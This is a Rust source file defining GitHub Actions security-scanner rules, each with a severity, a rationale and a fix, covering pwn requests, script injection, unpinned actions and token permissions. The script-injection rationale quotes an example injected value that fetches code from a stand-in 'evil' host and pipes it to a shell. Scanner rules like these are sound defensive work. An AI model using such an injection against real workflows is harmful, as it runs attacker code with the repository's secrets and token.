//! The GitHub Actions workflow rules. Trivy has no workflow checks, so these
//! carry no aliases.

use crate::config::Rule;
use crate::matching::severity::Severity::{High, Medium};

pub static UNTRUSTED_CHECKOUT: Rule = Rule {
    id: "SG-GHA-001",
    aliases: &[],
    title: "Privileged trigger checks out untrusted code",
    severity: High,
    rationale: "`pull_request_target` and `workflow_run` run with the base repository's secrets and a writable token; checking out the pull request's head and building or running it hands both to whoever opened the pull request (a \"pwn request\").",
    resolution: "Use the `pull_request` trigger for building untrusted code; if `pull_request_target` is needed, do not check out `github.event.pull_request.head.*`, or run nothing from that checkout.",
};

pub static SCRIPT_INJECTION: Rule = Rule {
    id: "SG-GHA-002",
    aliases: &[],
    title: "Untrusted input expanded in a script",
    severity: High,
    rationale: "`${{ }}` is expanded into the script text before the shell runs it: an issue title, branch name or commit message such as `\"; curl evil | sh #` becomes code running with the job's token and secrets.",
    resolution: "Pass the value through an environment variable and quote it: `env: {TITLE: ${{ github.event.issue.title }}}` then `run: echo \"$TITLE\"`.",
};

pub static UNPINNED_ACTION: Rule = Rule {
    id: "SG-GHA-003",
    aliases: &[],
    title: "Third-party action not pinned to a commit",
    severity: Medium,
    rationale: "A tag or branch can be moved to malicious code by the action's owner or anyone who compromises them; only a full commit SHA is immutable. Actions of the `actions/` and `github/` organisations are maintained by GitHub and exempt.",
    resolution: "Pin the full 40-character commit SHA and keep the version in a comment: `uses: owner/action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v4.1.0`.",
};

pub static WRITE_ALL: Rule = Rule {
    id: "SG-GHA-004",
    aliases: &[],
    title: "Token with write access to everything",
    severity: High,
    rationale: "`permissions: write-all` gives the job's token write access to code, packages, releases and more; any compromised step can push to the repository.",
    resolution: "Grant only what the job needs: `permissions: {contents: read, pull-requests: write}`.",
};

pub static MISSING_PERMISSIONS: Rule = Rule {
    id: "SG-GHA-005",
    aliases: &[],
    title: "Workflow using secrets sets no token permissions",
    severity: Medium,
    rationale: "Without `permissions`, the token gets the repository's default, which is write access to most scopes on older repositories; a workflow that handles secrets should hold no more than it needs.",
    resolution: "Add `permissions: {contents: read}` at the top of the workflow and widen per job as needed.",
};

pub static SECRETS_INHERIT: Rule = Rule {
    id: "SG-GHA-006",
    aliases: &[],
    title: "All secrets passed to another repository's workflow",
    severity: Medium,
    rationale: "`secrets: inherit` hands every secret of this repository to a reusable workflow whose code lives elsewhere and can change.",
    resolution: "Pass only the secrets it needs: `secrets: {token: ${{ secrets.DEPLOY_TOKEN }}}`, and pin the workflow to a commit SHA.",
};

pub static UNSECURE_COMMANDS: Rule = Rule {
    id: "SG-GHA-007",
    aliases: &[],
    title: "Deprecated unsafe workflow commands enabled",
    severity: High,
    rationale: "`ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables `::set-env` and `::add-path`, which let any text a step prints (a log line from untrusted input) set environment variables and PATH for later steps.",
    resolution: "Remove the variable; write to `$GITHUB_ENV` and `$GITHUB_PATH` instead.",
};

/// Every workflow rule, in id order.
pub static RULES: &[&Rule] = &[
    &UNTRUSTED_CHECKOUT,
    &SCRIPT_INJECTION,
    &UNPINNED_ACTION,
    &WRITE_ALL,
    &MISSING_PERMISSIONS,
    &SECRETS_INHERIT,
    &UNSECURE_COMMANDS,
];
